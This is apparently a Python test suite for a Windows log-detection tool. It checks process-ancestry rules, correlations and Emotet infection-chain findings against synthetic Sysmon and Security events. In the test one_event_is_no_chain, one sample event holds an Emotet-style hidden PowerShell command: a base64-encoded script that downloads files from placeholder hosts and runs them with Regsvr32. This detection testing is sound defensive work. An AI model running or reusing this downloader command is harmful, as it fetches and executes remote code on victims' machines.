#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Rules on what stands above a process: the bundled case, small logs, and a second opinion.

usage: test_lineage.py BUILD_FOLDER
"""
import base64
import collections
import json
import os
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import Test  # noqa: E402

SYSMON = 'Microsoft-Windows-Sysmon/Operational'


def rule(number, title, source, detection, level='high'):
    return (f'title: {title}\nid: 00000000-0000-4000-8000-{number:012d}\nname: r{number}\nlevel: {level}\n'
            f'logsource: {{product: windows, {source}}}\ndetection: {detection}\n')


def correlation(number, title, body):
    return f'title: {title}\nid: 00000000-0000-4000-8000-{number:012d}\nlevel: high\ncorrelation: {body}\n'


class Lineage:
    def __init__(self, t, folder):
        self.t, self.folder = t, folder

    def run(self, *args):
        code, out, err = self.t.run(*args)
        return code, out.decode(), err.decode()

    def scan(self, rules, logs, *options):
        path = os.path.join(self.folder, 'rules.yml')
        with open(path, 'w', encoding='utf-8') as handle:
            handle.write('---\n'.join(rules))
        code, out, err = self.run('scan', '-q', '--format', 'jsonl', '--rules', path, *options, logs)
        self.t.check(code == 0, f'{options}: exit {code}, {err[:300]}')
        self.output = out
        return [json.loads(line) for line in out.splitlines()]

    def log(self, events):
        path = os.path.join(self.folder, 'events.jsonl')
        with open(path, 'w', encoding='utf-8') as handle:
            handle.writelines(json.dumps(event) + '\n' for event in events)
        return path

    def titles(self, rules, events, *options):
        return sorted(f['rule_title'] for f in self.scan(rules, self.log(events), *options))


# --- the bundled case -------------------------------------------------------------------------

def below_word(x, case):
    """Three levels below Word, and WMI in between."""
    rules = [rule(1, 'rundll32', 'category: process_creation',
                  "{s: {Image|endswith: '\\rundll32.exe', AncestorImage|endswith: '\\WINWORD.EXE'}, condition: s}"),
             rule(2, 'connection', 'category: network_connection', "{s: {AncestorImage|endswith: '\\WINWORD.EXE'}, condition: s}"),
             rule(3, 'script', 'category: ps_script', "{s: {AncestorImage|endswith: '\\WINWORD.EXE'}, condition: s}"),
             rule(4, 'not below Office', 'category: process_creation',
                  "{s: {Image|endswith: '\\rundll32.exe'}, f: {AncestorImage|contains: '\\Office16\\'}, condition: s and not f}")]
    found = x.scan(rules, case)
    first = [f for f in found if f['rule_title'] == 'rundll32']
    x.t.check(len(first) == 6, f'rundll32 below Word: {len(first)} findings, not 3 processes twice')
    x.t.check({f['channel'] for f in first} == {'Security', SYSMON}, 'both views of each process')
    for f in first:
        chain = [(os.path.basename(a['image'].replace('\\', '/')), a['inferred']) for a in f['ancestors']]
        names = [name for name, _ in chain]
        x.t.check(('WmiPrvSE.exe', False) in chain and ('WINWORD.EXE', True) in chain, f'chain: {chain}')
        x.t.check(names.index('cmd.exe') < names.index('WmiPrvSE.exe') < names.index('OUTLOOK.EXE'), f'order: {names}')
        why = [a.get('why', '') for a in f['ancestors'] if a['image'].endswith('WINWORD.EXE')]
        x.t.check('WMI' in why[0], f'reason: {why}')
        x.t.check(any(m['field'] == 'AncestorImage' and m['value'].endswith('WINWORD.EXE') for m in f['matched']),
                  f'matched: {f["matched"]}')
    count = collections.Counter(f['rule_title'] for f in found)
    hosts = {f['computer'] for f in found if f['rule_title'] in ('rundll32', 'connection', 'script')}
    x.t.check(count['connection'] > 50 and count['script'] == 2, f'other events of these processes: {count}')
    x.t.check(all(h.startswith('PC-SALES-07.') for h in hosts), f'hosts: {hosts}')
    x.t.check(count['not below Office'] > 0, 'the negation decides too')
    trees = {f['process_tree'] for f in first}
    x.t.check(len(trees) == 1, f'one tree: {trees}')
    same_bytes(x, rules, case)


def same_bytes(x, rules, case):
    one = x.scan(rules, case, '--threads', '1') and x.output
    for options in (['--threads', '2'], ['--threads', '7'], ['--no-prefilter'], ['--memory', '1M']):
        x.scan(rules, case, *options)
        x.t.check(x.output == one, f'{options} changes the findings')


def explained(x, case):
    log = os.path.join(case, 'PC-SALES-07', 'Microsoft-Windows-Sysmon%4Operational.evtx')
    path = os.path.join(x.folder, 'rules.yml')
    found = x.scan([rule(1, 'rundll32', 'category: process_creation',
                         "{s: {Image|endswith: '\\rundll32.exe', AncestorImage|endswith: '\\WINWORD.EXE'}, condition: s}")], log)
    code, out, _ = x.run('rules', 'explain', '--rules', path, 'rundll32', '--record', f'{log}:{found[0]["record_id"]}')
    x.t.check(code == 0 and 'The rule matches' in out and 'AncestorImage ends with' in out, f'explain: {out}')
    other = x.scan([rule(1, 'rundll32', 'category: process_creation',
                         "{s: {Image|endswith: '\\svchost.exe', AncestorImage|endswith: '\\WINWORD.EXE'}, condition: 1 of s*}")], log)
    code, out, _ = x.run('rules', 'explain', '--rules', path, 'rundll32', '--record', f'{log}:{found[0]["record_id"]}')
    x.t.check(not other and 'does not match' in out, f'explain: {out}')


# --- a second opinion ---------------------------------------------------------------------------

def second_opinion(x, build, case):
    """Recorded ancestors by GUID alone, worked out here from the events, against what rules say."""
    folder = os.path.join(case, 'PC-DESIGN-11')
    out = subprocess.run([os.path.join(build, 'sekisho'), 'dump', '--format', 'jsonl', folder], check=True,
                         capture_output=True, text=True).stdout
    starts = {}
    for line in out.splitlines():
        event = json.loads(line)['Event']
        system, data = event['System'], event.get('EventData', {})
        if system['Channel'] == SYSMON and str(system['EventID']) == '1':
            starts[data['ProcessGuid']] = (int(system['EventRecordID']), data)
    names = sorted({d['Image'].rsplit('\\', 1)[1] for _, d in starts.values()} |
                   {d['ParentImage'].rsplit('\\', 1)[1] for _, d in starts.values()})
    x.t.check(len(starts) > 200 and len(names) > 20, f'{len(starts)} starts, {len(names)} programs')
    above = {}
    for guid, (record, data) in starts.items():
        found, seen = set(), set()
        while True:
            found.add(data['ParentImage'].rsplit('\\', 1)[1].lower())
            guid = data['ParentProcessGuid']
            if guid not in starts or guid in seen:
                break
            seen.add(guid)
            data = starts[guid][1]
        above[record] = found
    rules = [rule(i, name, 'category: process_creation, service: sysmon',
                  f"{{s: {{AncestorImage|endswith: '\\{name}'}}, condition: s}}") for i, name in enumerate(names, 1)]
    told, unsure = collections.defaultdict(set), set()
    for f in x.scan(rules, folder):
        told[f['record_id']].add(f['rule_title'].lower())
        if any(a['inferred'] for a in f['ancestors']):
            unsure.add(f['record_id'])
    wrong = [r for r in above if told[r] != above[r] and r not in unsure]
    beyond = 0
    for record in wrong:
        # The Security log may know a parent of a parent that Sysmon does not; never less.
        beyond += told[record] > above[record]
        x.t.check(told[record] >= above[record], f'record {record}: {told[record]} instead of {above[record]}')
    x.t.check(all(told[r] >= above[r] for r in unsure), 'what is inferred comes on top')
    print(f'{len(above)} processes: {len(above) - len(wrong) - len(unsure)} the same by GUID alone, '
          f'{beyond} with more from the Security log, {len(unsure)} with something inferred')


# --- small logs -----------------------------------------------------------------------------------

def guid(n):
    return '{%08X-0000-0000-0000-000000000000}' % n


def start(second, pid, ppid, image, parent, **more):
    return {'Channel': SYSMON, 'Provider_Name': 'Microsoft-Windows-Sysmon', 'EventID': 1, 'Computer': 'PC',
            'TimeCreated': f'2024-01-01T00:00:{second:02d}.0000000Z', 'EventRecordID': second, 'ProcessGuid': guid(pid),
            'ProcessId': str(pid), 'ParentProcessGuid': guid(ppid), 'ParentProcessId': str(ppid), 'Image': image,
            'CommandLine': image + ' x', 'User': 'D\\u', 'ParentImage': parent, 'ParentCommandLine': parent, **more}


FAMILY = [start(40, 30, 20, 'C:\\c.exe', 'C:\\b.exe'), start(20, 20, 10, 'C:\\b.exe', 'C:\\a.exe'),
          start(10, 10, 5, 'C:\\a.exe', 'C:\\root.exe'), start(50, 31, 20, 'C:\\d.exe', 'C:\\b.exe'),
          start(55, 60, 59, 'C:\\e.exe', 'C:\\alone.exe')]

# condition or selections, how many of the five match
DECISIONS = [
    ("{s: {AncestorImage: 'C:\\a.exe'}, condition: s}", 3),
    ("{s: {AncestorImage: ['C:\\a.exe', 'C:\\alone.exe']}, condition: s}", 4),
    ("{s: {AncestorImage|contains|all: ['a.exe', 'b.exe']}, condition: s}", 2),
    ("{s: {AncestorImage: 'C:\\a.exe'}, condition: not s}", 2),
    ("{s: {AncestorImage|re: '(?i)B\\.EXE$'}, condition: s}", 2),
    ("{s: {AncestorImage|cased: 'C:\\A.exe'}, condition: s}", 0),
    ("{s: {AncestorCommandLine|endswith: 'root.exe'}, condition: s}", 4),
    ("{s: {AncestorCommandLine: 'C:\\a.exe x'}, condition: s}", 3),
    ("{s: {AncestorDepth: 3}, condition: s}", 2),
    ("{s: {AncestorDepth|gte: 2}, condition: s}", 3),
    ("{s: {AncestorDepth: null}, condition: s}", 0),
    ("{s: {AncestorUser: null}, condition: s}", 2),
    ("{s: {AncestorImage|exists: true}, condition: s}", 5),
    ("{s: {AncestorUser|exists: true}, condition: s}", 3),
    ("{s: {Image: 'C:\\c.exe'}, o: {AncestorImage: 'C:\\alone.exe'}, condition: s or o}", 2),
    ("{s: {Image: 'C:\\c.exe'}, o: {AncestorImage: 'C:\\a.exe'}, condition: s and not o}", 0),
    ("{s: {Image|endswith: '.exe'}, o: {AncestorImage: 'C:\\a.exe'}, condition: s and not o}", 2),
    ("{s: {AncestorImage|neq: 'C:\\a.exe'}, condition: s}", 2),
    ("{a: {Image: 'C:\\c.exe'}, b: {AncestorImage: 'C:\\b.exe'}, c: {ParentImage: 'C:\\b.exe'}, condition: 2 of them}", -1),
    ("{a: {Image: 'C:\\d.exe'}, b: {AncestorImage: 'C:\\b.exe'}, c: {ParentImage: 'C:\\b.exe'}, condition: all of them}", 1),
    ("{s: {ProcessTree: '%s'}, condition: s}" % ('PC ' + guid(5)), 4),
]


def decisions(x):
    for number, (detection, wanted) in enumerate(DECISIONS, 1):
        if wanted < 0:
            continue
        found = x.titles([rule(number, 't', 'category: process_creation', detection)], FAMILY)
        x.t.check(len(found) == wanted, f'{detection}: {len(found)} findings, not {wanted}')
    everything = [rule(n, str(n), 'category: process_creation', d) for n, (d, w) in enumerate(DECISIONS, 1) if w >= 0]
    found = collections.Counter(x.titles(everything, FAMILY, '--no-prefilter'))
    x.t.check(all(found[str(n)] == w for n, (_, w) in enumerate(DECISIONS, 1) if w >= 0), f'together: {found}')


def bounds(x):
    """Parents from before the bounds count."""
    wanted = [rule(1, 'r', 'category: process_creation', "{s: {AncestorImage: 'C:\\a.exe'}, condition: s}")]
    found = x.titles(wanted, FAMILY, '--from', '2024-01-01T00:00:30')
    x.t.check(found == ['r', 'r'], f'with --from: {found}')


def correlations(x):
    child = rule(1, 'child', 'category: process_creation', "{s: {ParentImage: 'C:\\b.exe'}, condition: s}", 'low')
    deferred = rule(2, 'deferred', 'category: process_creation', "{s: {AncestorImage: 'C:\\a.exe'}, condition: s}", 'low')
    by_tree = correlation(3, 'tree', '{type: event_count, rules: [r1], group-by: [ProcessTree], timespan: 1m, condition: {gte: 2}}')
    three = correlation(4, 'three', '{type: event_count, rules: [r2], group-by: [Computer, ProcessTree], timespan: 1m, condition: {gte: 3}}')
    four = correlation(5, 'four', '{type: event_count, rules: [r2], group-by: [Computer], timespan: 1m, condition: {gte: 4}}')
    values = correlation(6, 'values', '{type: value_count, rules: [r1, r2], group-by: [Computer], timespan: 1m, condition: {field: AncestorImage, gte: 2}}')
    found = x.scan([child, deferred, by_tree, three, four, values], x.log(FAMILY))
    x.t.check(sorted(f['rule_title'] for f in found) == ['three', 'tree', 'values'], f'correlations: {found}')
    groups = [f['correlation']['group'] for f in found if f['rule_title'] == 'tree']
    x.t.check(groups == [[{'field': 'ProcessTree', 'value': 'PC ' + guid(5)}]], f'group: {groups}')


def not_compared(x):
    bad = rule(1, 'bad', 'category: process_creation', "{s: {AncestorImage|fieldref: Image}, condition: s}")
    path = os.path.join(x.folder, 'rules.yml')
    with open(path, 'w', encoding='utf-8') as handle:
        handle.write(bad)
    code, out, err = x.run('rules', 'check', path)
    x.t.check(code == 2 and 'lineage' in out + err, f'fieldref: {code} {out} {err}')
    good = rule(2, 'good', 'category: process_creation', "{s: {AncestorImage: a, ProcessTree: b}, condition: s}")
    with open(path, 'w', encoding='utf-8') as handle:
        handle.write(good)
    code, out, err = x.run('rules', 'check', '--strict', path)
    x.t.check('AncestorImage' not in out + err and 'ProcessTree' not in out + err, f'known fields: {out} {err}')


# --- chains ---------------------------------------------------------------------------------------

CHAINS = {'PC-SALES-07': ('Infection Chain Consistent With Emotet', 8, 'December 2020'),
          'PC-ACCT-02': ('Infection Chain Consistent With Emotet', 6, 'April, May 2022'),
          'SRV-FILE-01': ('Host Reached by a Spreading Loader, Consistent With Emotet', 3, '')}


def chains(x, case):
    """One chain for each infected host, with its steps; none for the clean one."""
    code, out, err = x.run('scan', '-q', '--format', 'jsonl', case)
    x.t.check(code == 0, err[:300])
    found = [json.loads(line) for line in out.splitlines()]
    told = [f for f in found if f.get('correlation') and f['level'] == 'critical']
    x.t.check(sorted(f['computer'].split('.')[0] for f in told) == sorted(CHAINS), f'{len(told)} chains')
    with open(os.path.join(case, 'ground-truth.tsv'), encoding='utf-8') as handle:
        truth = {tuple(line.split('\t')[2:4]) for line in handle}
    for f in told:
        title, stages, wave = CHAINS[f['computer'].split('.')[0]]
        x.t.check(f['rule_title'] == title, f'{f["computer"]}: {f["rule_title"]}')
        events = f['correlation']['events']
        wrong = [e for e in events if (os.path.relpath(e['file'], case), str(e['record_id'])) not in truth]
        x.t.check(not wrong and len(events) >= 3, f'{f["computer"]}: {len(events)} events, not of the attack: {wrong}')
        times = [e['timestamp'] for e in events]
        x.t.check(times == sorted(times), f'{f["computer"]}: events out of order')
        said = [m['value'] for m in f['matched'] if m['field'] in ('stage', 'out of order', 'not seen')]
        total = 9 if wave else 3
        x.t.check({'field': 'stages', 'value': f'{stages} of {total}'} in f['matched'] and len(said) == total,
                  f'{f["computer"]}: {f["matched"]}')
        if wave:
            also = [o['rule_title'] for o in found if o['computer'] == f['computer'] and o.get('correlation')]
            for what in ('Chain Form -', 'Chain Form in One Process Tree -'):
                x.t.check(any(wave in form and what in form for form in also), f'{f["computer"]}: {also}')
            x.t.check(also.count('Infection Chain in One Process Tree, Consistent With Emotet') == 1, f'{f["computer"]}: {also}')
    _, out, _ = x.run('scan', '-q', '--no-color', case)
    lines = [line for line in out.splitlines() if 'Infection Chain Consistent' in line or ' of 9' in line]
    x.t.check(any('8 of 9' in line for line in lines) and any('3 of 3' in line for line in out.splitlines()), f'the table says how many stages: {lines[:3]}')
    hosts = {f['computer'].split('.')[0] for f in found if f.get('correlation')}
    x.t.check(hosts == set(CHAINS), f'correlations on {hosts}')


def start(number, second, command):
    """Sysmon's start of PowerShell from the desktop."""
    shell = r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'
    time = f'2024-01-01T10:00:{second:02d}.0000000Z'
    return {'Event': {'System': {'Provider': {'Name': 'Microsoft-Windows-Sysmon'}, 'EventID': 1, 'Computer': 'h1',
                                 'TimeCreated': {'SystemTime': time}, 'Channel': SYSMON, 'EventRecordID': number},
                      'EventData': {'ProcessGuid': f'{{00000000-0000-0000-0000-{number:012d}}}', 'ProcessId': 100 + number,
                                    'Image': shell, 'CommandLine': f'"{shell}" {command}', 'User': 'D\\u',
                                    'ParentProcessGuid': '{00000000-0000-0000-0000-000000000099}', 'ParentProcessId': 50,
                                    'ParentImage': r'C:\Windows\explorer.exe', 'ParentCommandLine': ''}}}


def one_event_is_no_chain(x):
    """One record that fits several steps, also through inner correlations, is one thing that happened."""
    rules = [rule(1, 'one', 'category: process_creation', '{s: {CommandLine|contains: aaa}, condition: s}'),
             rule(2, 'two', 'category: process_creation', '{s: {CommandLine|contains: bbb}, condition: s}')]
    for n in (1, 2):
        rules.append(correlation(n + 10, f'part {n}', f'{{type: event_count, rules: [r{n}], group-by: [Computer], '
                                 'timespan: 1s, condition: {gte: 1}}').replace('level', f'name: p{n}\nlevel'))
    outer = 'rules: [p1, p2], group-by: [Computer], timespan: 1h'
    rules.append(correlation(21, 'ordered', f'{{type: temporal_ordered, {outer}}}'))
    rules.append(correlation(22, 'counted', f'{{type: temporal, {outer}, condition: {{gte: 2}}}}'))
    for commands, expected in ((['aaa bbb'], []), (['aaa', 'bbb'], ['counted', 'ordered']),
                               (['aaa', 'aaa bbb'], ['counted', 'ordered']), (['aaa bbb', 'bbb'], ['counted', 'ordered']),
                               (['bbb', 'aaa'], ['counted'])):
        events = [start(i + 1, i, command) for i, command in enumerate(commands)]
        found = [t for t in x.titles(rules, events) if t in ('counted', 'ordered')]
        x.t.check(found == expected, f'{commands}: {found}')
    script = ("$links=(\"http://u1.example.com/a/\",\"http://u2.example.com/wp-admin/b/\",\"http://u3.example.net/c/\");"
              'foreach ($u in $links) {try {IWR $u -OutFile $env:TEMP/LqwxbPrZJz.LMo;'
              'Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo;break} catch { }}')
    hidden = base64.b64encode(script.encode()).decode()
    command = ('-w hidden -command Out-String -InputObject "Invoice.lnk" | Out-Null; [System.Text.Encoding]::ASCII.GetString('
               f"[System.Convert]::FromBase64String('{hidden}')) > \"$env:TEMP\\a.ps1\"; powershell -executionpolicy bypass "
               '-file "$env:TEMP/a.ps1"')
    code, out, err = x.run('scan', '-q', '--format', 'jsonl', x.log([start(1, 0, command)]))
    found = [json.loads(line) for line in out.splitlines()]
    x.t.check(code == 0 and len(found) >= 3, f'one start: {len(found)} findings, {err[:300]}')
    told = [f['rule_title'] for f in found if f.get('correlation')]
    x.t.check(not told, f'one start is {told}')


def security(number, minute, event_id, data=None, channel='Security', provider='Microsoft-Windows-Security-Auditing'):
    return {'Event': {'System': {'Provider': {'Name': provider}, 'EventID': event_id, 'Channel': channel, 'Computer': 'h1',
                                 'TimeCreated': {'SystemTime': f'2024-01-01T10:{minute:02d}:00.0000000Z'},
                                 'EventRecordID': number}, 'EventData': data or {}}}


def boots(x):
    """Ids begin anew when the host starts, but what started just before its log did stays."""
    rules = [rule(1, 'below Word', 'category: process_creation',
                  r"{s: {NewProcessName|endswith: '\rundll32.exe', AncestorImage|endswith: '\WINWORD.EXE'}, condition: s}")]

    def started(number, minute, pid, parent, name, parent_name):
        return security(number, minute, 4688, {'NewProcessId': hex(pid), 'ProcessId': hex(parent),
                                               'NewProcessName': fr'C:\{name}', 'ParentProcessName': fr'C:\{parent_name}'})

    word = started(1, 1, 600, 100, 'cmd.exe', 'WINWORD.EXE')
    loader = started(3, 30, 601, 600, 'rundll32.exe', 'cmd.exe')
    event_log = {'channel': 'System', 'provider': 'EventLog'}
    for what, between, expected in (('no start', [], 1), ('4608', [security(2, 20, 4608)], 0),
                                    ('6005', [security(2, 20, 6005, **event_log)], 0),
                                    ('a start just behind', [security(2, 2, 4608)], 1),
                                    ('a start afterwards', [security(4, 40, 4608)], 1),
                                    ('6005 of something else', [security(2, 20, 6005, channel='System', provider='X')], 1)):
        found = x.titles(rules, [word, *between, loader])
        x.t.check(len(found) == expected, f'{what}: {found}')


def one_host(x):
    """Short and full names are one host where that is certain: for lineage, groups by Computer and the summary."""
    rules = [rule(1, 'below b', 'category: process_creation', "{s: {Image: 'C:\\c.exe', AncestorImage: 'C:\\a.exe'}, condition: s}"),
             rule(2, 'any', 'category: process_creation', "{s: {Image|endswith: '.exe'}, condition: s}"),
             correlation(3, 'three', '{type: event_count, rules: [r2], group-by: [Computer], timespan: 1h, condition: {gte: 5}, generate: true}')]

    def on(*names):
        return [dict(event, Computer=name) for event, name in zip(FAMILY, names)]

    other = dict(FAMILY[4], Computer='pc.other.example', EventID=255)
    for what, events, expected in (('one full name', on('PC', 'pc.corp.example', 'PC', 'PC.CORP.EXAMPLE', 'pc'), True),
                                   ('only one name', on('PC', 'pc', 'PC', 'Pc', 'pc'), True),
                                   ('two full names', on('PC', 'pc.corp.example', 'PC', 'pc', 'pc') + [other], False)):
        found = x.titles(rules, events)
        x.t.check(found.count('below b') == expected, f'{what}: lineage: {found}')
        x.t.check(found.count('three') == expected, f'{what}: correlation: {found}')
        x.t.check([f['computer'] for f in x.scan(rules[1:2], x.log(events))][:2] == [events[2]['Computer'], events[1]['Computer']],
                  f'{what}: findings name the computer as the event does')
    code, out, err = x.run('scan', '--no-color', '--rules', os.path.join(x.folder, 'rules.yml'),
                           x.log(on('PC', 'pc.corp.example', 'PC', 'pc', 'pc')))
    hosts = [line for line in (out + err).splitlines() if line.strip().lower().startswith('pc') and 'finding' not in line]
    x.t.check('pc.corp.example' in out + err and len([h for h in hosts if h.split()[0].lower() == 'pc']) == 0, f'summary: {hosts}')


def beyond_64(x):
    """A condition that depends on ancestors that are not listed is left open and counted, not answered."""
    line = [dict(FAMILY[0], EventRecordID=n, TimeCreated=f'2024-01-01T00:{n // 60:02d}:{n % 60:02d}.0000000Z', ProcessGuid=guid(n),
                 ProcessId=str(n), ParentProcessGuid=guid(n - 1), ParentProcessId=str(n - 1), Image=f'C:\\p{n}.exe',
                 CommandLine=f'p{n}', ParentImage=f'C:\\p{n - 1}.exe', ParentCommandLine=f'p{n - 1}') for n in range(10, 111)]
    last = "{s: {Image: 'C:\\p110.exe'}, o: {%s}, condition: %s}"
    rules = [rule(1, 'near', 'category: process_creation', last % ("AncestorImage: 'C:\\p50.exe'", 's and o')),
             rule(2, 'far', 'category: process_creation', last % ("AncestorImage: 'C:\\p20.exe'", 's and o')),
             rule(3, 'not far', 'category: process_creation', last % ("AncestorImage: 'C:\\p20.exe'", 's and not o')),
             rule(4, 'not near', 'category: process_creation', last % ("AncestorImage: 'C:\\p50.exe'", 's and not o')),
             rule(5, 'deep', 'category: process_creation', last % ('AncestorDepth|gte: 60', 's and o')),
             rule(6, 'deeper', 'category: process_creation', last % ('AncestorDepth|gte: 80', 's and o')),
             rule(7, 'below 70', 'category: process_creation', last % ('AncestorDepth|lt: 70', 's and o')),
             rule(8, 'not below 60', 'category: process_creation', last % ('AncestorDepth|lt: 60', 's and not o')),
             rule(9, 'begins with 6', 'category: process_creation', last % ('AncestorDepth|startswith: "6"', 's and o'))]
    found = x.scan(rules, x.log(line))
    x.t.check([f['rule_title'] for f in found] == ['near', 'deep', 'not below 60'], f'beyond 64: {[f["rule_title"] for f in found]}')
    x.t.check(all(f.get('ancestors_cut') and len(f['ancestors']) == 64 for f in found), 'findings say that there are more')
    code, out, err = x.run('scan', '--no-color', '--rules', os.path.join(x.folder, 'rules.yml'), x.log(line))
    x.t.check('5 rule conditions left open' in out + err, f'summary: {(out + err)[-600:]}')
    found = x.scan(rules[:1], x.log(line[:60]))
    x.t.check(not found and 'left open' not in x.output, f'none of these: {found}')


def main():
    t = Test(sys.argv[1])
    with tempfile.TemporaryDirectory() as folder:
        case = t.make_case(folder)
        x = Lineage(t, folder)
        below_word(x, case)
        explained(x, case)
        second_opinion(x, sys.argv[1], case)
        decisions(x)
        bounds(x)
        correlations(x)
        not_compared(x)
        chains(x, case)
        one_event_is_no_chain(x)
        boots(x)
        one_host(x)
        beyond_64(x)
    return t.end()


if __name__ == '__main__':
    sys.exit(main())
